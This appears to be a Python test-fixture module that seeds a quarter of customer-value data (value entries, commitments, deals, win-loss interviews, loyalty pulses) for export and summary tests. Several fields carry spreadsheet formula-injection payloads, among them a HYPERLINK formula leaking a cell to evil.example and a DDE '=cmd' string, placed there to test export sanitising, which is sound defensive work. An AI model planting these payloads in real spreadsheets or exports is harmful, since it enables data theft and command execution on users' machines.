"""Data sets built from the factories: 2026-Q3 as the exports and the summaries see it.

`seed_quarter` covers every sheet of an export: value entries in and around the quarter
(with formula-looking titles), commitments due this quarter, next and later, key
stakeholders with summaries and sendings, deals with competitors, interviews (one
anonymized with a distinctive name, one blind) and loyalty pulses.

`seed_account_value` gives one account a realistic quarter for its value summary.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from sqlmodel import Session

from valuetracker.models import Account, Stakeholder, ValueEntry

from .accounts import make_account, make_stakeholder
from .summaries import make_summary
from .value import make_commitment, make_confirmation, make_entry, make_pulse
from .winloss import (
    make_competitor,
    make_deal,
    make_factor,
    make_interview,
    make_quote,
    make_rating,
)

QUARTER = "2026-Q3"
Q_START, Q_END = date(2026, 7, 1), date(2026, 9, 30)
# Today, for the tests: inside the quarter after next, so Q3's open commitments are overdue.
TODAY = date(2026, 11, 23)

# Text a spreadsheet would run as a formula if it were written as one.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2+3",
           "@SUM(A1:A2)", "\t=1", "\r=2+2"]
ANONYMOUS_NAME = "Zebulon Quixote-Farnsworth"
ANONYMOUS_TITLE = "Chief Secrecy Officer"
BLIND_STAKEHOLDER = "Xanthippe Vorbeck"
# When the quarter's interviews were completed, unless one says otherwise.
INTERVIEWED_AT = datetime(2026, 9, 20, 15, 0, tzinfo=UTC)


@dataclass
class Seeded:
    acme: Account
    globex: Account
    initech: Account
    hostile_entries: list[ValueEntry] = field(default_factory=list)


def seed_quarter(session: Session, cast: Any) -> Seeded:
    """Seed 2026-Q3 (and rows just outside it) for the cast's two accounts and a third."""
    acme, globex = cast.account1, cast.account2
    initech = make_account(session, "Initech", owner=cast.am2, segment="Enterprise",
                           tier="standard", annual_revenue=Decimal("5000"),
                           cost_to_serve=Decimal("9000"))
    s1, s2 = cast.stakeholder1, cast.stakeholder2
    gina = make_stakeholder(session, acme, "Gina User", buying_role="user")
    optout = make_stakeholder(session, acme, "Erin Optout", is_key=True,
                              opted_out_at=datetime(2026, 5, 1, tzinfo=UTC))
    gone = make_stakeholder(session, acme, "Frank Gone", is_key=True,
                            left_company_at=datetime(2026, 6, 1, tzinfo=UTC))
    blind = make_stakeholder(session, globex, BLIND_STAKEHOLDER, title="VP Secrets",
                             buying_role="decision_maker")
    seeded = Seeded(acme, globex, initech)

    # Value entries in the quarter ...
    make_entry(session, acme, "10000.00", delivered_on=date(2026, 7, 10),
               title="Faster onboarding", evidence_status="confirmed", driver="revenue_growth",
               beneficiaries=(s1,))
    make_entry(session, acme, "2500.50", delivered_on=date(2026, 8, 3), driver="cost_reduction",
               title="Cheaper hosting")
    make_entry(session, acme, "1200.00", delivered_on=date(2026, 9, 30), driver="productivity",
               evidence_status="disputed", title="Report automation")
    make_entry(session, acme, "40", delivered_on=date(2026, 8, 20), unit="hours",
               driver="productivity", title="Hours saved")
    make_entry(session, globex, "7000.00", delivered_on=date(2026, 7, 1), driver="risk_reduction",
               evidence_status="confirmed", title="Audit passed")
    make_entry(session, globex, "300.00", delivered_on=date(2026, 9, 1),
               driver="customer_experience", title="Portal refresh")
    for n, text in enumerate(HOSTILE):
        seeded.hostile_entries.append(make_entry(
            session, globex, "-10.00" if n == 0 else "1.00", delivered_on=date(2026, 8, 1 + n),
            title=text, description=text, source=text, driver="strategic"))
    # ... and outside it (the YTD column counts May's, not last year's or October's).
    make_entry(session, acme, "5000.00", delivered_on=date(2026, 5, 15), title="Q2 win",
               driver="revenue_growth")
    make_entry(session, acme, "9999.00", delivered_on=date(2025, 12, 31), title="Last year",
               driver="revenue_growth")
    make_entry(session, acme, "8888.00", delivered_on=date(2026, 10, 1), title="Next quarter",
               driver="revenue_growth")

    # Commitments due in Q3 and Q4 (and outside both).
    make_commitment(session, acme, due_on=date(2026, 8, 1), title="Commitment 2026-08-01",
                    driver="cost_reduction", status="delivered", delivered_on=date(2026, 7, 30),
                    expected_amount=Decimal("3000"))
    make_commitment(session, acme, due_on=date(2026, 9, 15), title="Commitment 2026-09-15",
                    driver="cost_reduction", status="delivered", delivered_on=date(2026, 9, 20))
    make_commitment(session, acme, due_on=date(2026, 9, 30), title="Commitment 2026-09-30",
                    driver="cost_reduction", status="planned")
    make_commitment(session, acme, due_on=date(2026, 11, 15), title="Commitment 2026-11-15",
                    driver="cost_reduction", status="in_progress")
    make_commitment(session, acme, due_on=date(2027, 1, 10), title="Commitment 2027-01-10",
                    driver="cost_reduction", status="planned")
    make_commitment(session, acme, due_on=date(2026, 6, 30), title="Commitment 2026-06-30",
                    driver="cost_reduction", status="delivered", delivered_on=date(2026, 6, 1))
    make_commitment(session, globex, due_on=date(2026, 7, 15), title="=cmd|' /C calc'!A0",
                    driver="cost_reduction", status="missed")

    # Summaries: Carol's Q3 summary was sent; Dan's failed; Carol's Q2 one does not count.
    make_summary(session, s1)
    make_summary(session, s1, quarter="2026-Q2")
    make_summary(session, s2, status="failed")
    make_summary(session, optout, status="skipped")
    make_summary(session, gone)  # sent before he left: not counted, he is not eligible

    # Deals closed in Q3 with competitors; one closed in Q2 and an open one.
    microsoft = make_competitor(session, "Microsoft")
    oracle = make_competitor(session, "Oracle")
    price = make_factor(session, "Price", "Commercial")
    fit = make_factor(session, "Product fit", "Product")
    won = make_deal(session, acme, "won", date(2026, 7, 20), competitors=(microsoft, oracle),
                    name="Acme Corp won deal", amount=Decimal("50000"), owner_id=cast.am1.id,
                    product="Platform", rep_reason_id=fit.id)
    lost = make_deal(session, acme, "lost", date(2026, 8, 20), competitors=(oracle,),
                     name="+Acme expansion", amount=Decimal("20000"), rep_reason_id=price.id)
    globex_nd = make_deal(session, globex, "no_decision", date(2026, 9, 30),
                          name="Globex no_decision deal", amount=Decimal("10000"))
    make_deal(session, globex, "won", date(2026, 9, 1), competitors=(microsoft,),
              name="Globex won deal", amount=Decimal("5000"))
    old = make_deal(session, acme, "lost", date(2026, 6, 30), competitors=(microsoft,),
                    name="Acme Corp lost deal", amount=Decimal("7777"))
    make_deal(session, None, "open", None, name="Open prospect", amount=Decimal("1234"))

    # Interviews: every rating at importance 4; 4 and 5 won the deal, lower ones lost it.
    interview = make_interview(session, won, s1, completed_at=INTERVIEWED_AT)
    make_rating(session, interview, fit, 5, "win_driver", importance=4)
    make_rating(session, interview, price, 3, "loss_driver", importance=4)
    make_quote(session, interview, "The fit was obvious.", tags="pricing")
    interview = make_interview(session, lost, contact_name=ANONYMOUS_NAME,
                               contact_title=ANONYMOUS_TITLE, anonymity="anonymized",
                               completed_at=INTERVIEWED_AT)
    make_rating(session, interview, price, 1, "loss_driver", importance=4)
    make_quote(session, interview, "Too expensive for us.", tags="pricing")
    make_quote(session, interview, "=1+1", tags="pricing")
    interview = make_interview(session, globex_nd, blind, anonymity="blind",
                               completed_at=INTERVIEWED_AT)
    make_rating(session, interview, fit, 2, "loss_driver", importance=4)
    interview = make_interview(session, old, contact_name="Old Quarter Person",
                               completed_at=datetime(2026, 7, 2, tzinfo=UTC))
    make_rating(session, interview, price, 2, "loss_driver", importance=4)
    interview = make_interview(session, won, contact_name="Not Done Yet", status="scheduled")
    make_rating(session, interview, fit, 4, "win_driver", importance=4)

    # Pulses in the quarter, and one before it.
    make_pulse(session, s1, taken_on=date(2026, 4, 1), satisfaction=2, intent="not_sure",
               recommend=3)
    make_pulse(session, s1, taken_on=date(2026, 8, 10), satisfaction=5, intent="probably",
               recommend=9, positive_emotion=True, emotion_text="-they stayed late",
               ranking=["cost_reduction", "strategic"])
    make_pulse(session, s2, taken_on=date(2026, 9, 1), satisfaction=3, intent="definitely",
               recommend=5, comment="@everyone")
    make_pulse(session, gina, taken_on=date(2026, 7, 5), satisfaction=4, intent="definitely",
               recommend=8)
    session.commit()
    return seeded


def seed_account_value(session: Session, account: Account, buyer: Stakeholder) -> None:
    """A realistic quarter (2026-Q3) for `account`: totals 12,500 currency, 7,500 confirmed."""
    e1 = make_entry(session, account, Decimal("7500"), title="Automated invoice matching",
                    driver="cost_reduction", delivered_on=date(2026, 8, 15),
                    evidence_status="confirmed",
                    description="Matching now runs nightly instead of by hand.")
    make_entry(session, account, Decimal("5000"), title="New upsell playbook",
               driver="revenue_growth", delivered_on=date(2026, 7, 20))
    make_entry(session, account, Decimal("120"), title="Onboarding hours saved",
               driver="productivity", unit="hours", delivered_on=date(2026, 9, 2))
    make_entry(session, account, Decimal("2000"), title="Last year's rollout",
               driver="strategic", delivered_on=date(2025, 11, 3), evidence_status="confirmed")
    make_confirmation(session, e1, buyer, "Our finance team closes the month two days earlier.")
    make_commitment(session, account, title="Self-service reporting", due_on=date(2026, 11, 15),
                    expected_amount=Decimal("40"), unit="hours")
    make_commitment(session, account, title="Contract renewal analytics",
                    due_on=date(2026, 12, 20), driver="revenue_growth",
                    expected_amount=Decimal("9000"))
    make_commitment(session, account, title="Far future thing", due_on=date(2027, 6, 1))
